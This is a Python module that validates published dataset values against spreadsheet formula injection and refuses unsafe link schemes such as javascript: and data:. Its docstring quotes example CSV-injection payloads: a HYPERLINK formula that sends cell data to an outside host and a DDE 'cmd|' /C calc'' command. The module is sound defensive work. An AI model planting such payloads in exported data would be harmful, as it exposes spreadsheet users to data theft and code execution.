"""What may not reach a published cell: spreadsheet formulas and script links.

The dataset is published as Parquet and CSV, and the build holds each Parquet file to its
CSV value for value, so nothing is rewritten for one format only: a value that would be
unsafe in a spreadsheet or a web page is refused at `validate` (typed values, quotes) or is
not taken from the article at all (links). Both functions are pure and cheap; they return
None when the value is fine, else the reason, for a message.

Formulas. A spreadsheet opening the CSV evaluates a cell that starts with `=`, `@`, `+` or
`-` (and some strip a leading tab or CR first): `=HYPERLINK("http://x/?"&A1, "click")`
sends data away, `=cmd|' /C calc'!A0` (DDE) runs a program. Refused:
- a first character (after ordinary spaces) of `=` or `@`, or their full-width forms, or a
  tab or CR: no real title, publisher, note or quote needs to start so, and a quote can
  always start a word earlier or later;
- a first `+` or `-` when the text also has `(` or `|`: a function call needs `(` and DDE
  needs `|`, so without them the cell is at worst a number or an error, never an action.
  This keeps plausible real text: `-` alone, `-60%`, `+13 per cent`, `- 40 people`, the
  publisher `+972 Magazine`, a leading minus number; it refuses `-1+HYPERLINK(...)`,
  `+cmd|' /C calc'!A0`, `- x (y)` (a false alarm is fixed by moving the quote's start).

Links. An href of the raw HTML becomes a row of `source_links` only if it is a plain
web or mail link: after what a browser ignores (leading and trailing spaces and control
characters; tabs and line breaks anywhere), its scheme is http, https or mailto, or it has
no scheme (a relative link, `/news/x`, `#top`, `//host/x`: published as written, never
resolved); and it has no control character, and no formula start (above).
`javascript:`, `data:`, `vbscript:`, `file:` and every other scheme are not taken.
"""

from __future__ import annotations

import re

# The characters a spreadsheet reads as the start of a formula (OWASP "CSV injection"),
# with the full-width = and @ that some spreadsheets fold to ASCII.
_ALWAYS = {"=": "'='", "@": "'@'", "\uff1d": "a full-width '='", "\uff20": "a full-width '@'",
           "\t": "a tab", "\r": "a carriage return", "\n": "a line break"}
_SIGNS = {"+": "'+'", "-": "'-'", "\uff0b": "a full-width '+'", "\uff0d": "a full-width '-'"}
_CALL_OR_DDE = ("(", "|", "\uff08", "\uff5c")

LINK_SCHEMES = ("http", "https", "mailto")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_C0_OR_SPACE = "".join(chr(c) for c in range(0x21))
_CONTROL = re.compile(r"[\x00-\x1f\x7f]")


def formula_risk(text: str) -> str | None:
    """None when a spreadsheet would show `text` as text (or a number); else why not."""
    if not isinstance(text, str):
        return None
    head = text.lstrip(" ")
    if not head:
        return None
    first = head[0]
    if first in _ALWAYS:
        return f"starts with {_ALWAYS[first]}, which a spreadsheet opening the CSV would run as a formula"
    if first in _SIGNS and any(ch in head for ch in _CALL_OR_DDE):
        return (f"starts with {_SIGNS[first]} and has '(' or '|', which a spreadsheet opening the CSV would run "
                "as a formula")
    return None


FORMULA_HINT_VALUE = "do not start the value with = @ or a tab, nor with + or - when it has ( or |"
FORMULA_HINT_QUOTE = "start the quote a word earlier or later (it stays copied verbatim from the article)"


def link_problem(href: str) -> str | None:
    """None when an href of the raw HTML may be published in `source_links`; else why not."""
    if not isinstance(href, str):
        return "is not text"
    # What a browser's URL parser ignores, so that "java\tscript:" is javascript: too.
    if _CONTROL.search(href) or any(ch in href for ch in "\t\n\r"):
        return "has control characters"  # published as written: a line break could start a formula cell
    cleaned = href.strip(_C0_OR_SPACE)
    scheme = _SCHEME.match(cleaned)
    if scheme and scheme.group(1).lower() not in LINK_SCHEMES:
        return f"is a {scheme.group(1).lower()}: link; only {', '.join(LINK_SCHEMES)} and relative links are kept"
    risk = formula_risk(cleaned)
    if risk:
        return risk
    return None


def url_problem(url: str) -> str | None:
    """None when a typed-in `format: uri` value (a source's url) is an absolute http(s) URL."""
    if _CONTROL.search(url) or any(ch.isspace() for ch in url):
        return "has spaces or control characters (write a space inside a URL as %20)"
    scheme = _SCHEME.match(url)
    if not scheme or scheme.group(1).lower() not in ("http", "https") or not url[scheme.end():].startswith("//"):
        return "is not an http:// or https:// address"
    host = re.split(r"[/?#]", url[scheme.end() + 2:], maxsplit=1)[0].rpartition("@")[2]
    if not host or host.startswith(":"):
        return "has no site name after the scheme (http://example.org/...)"
    return None
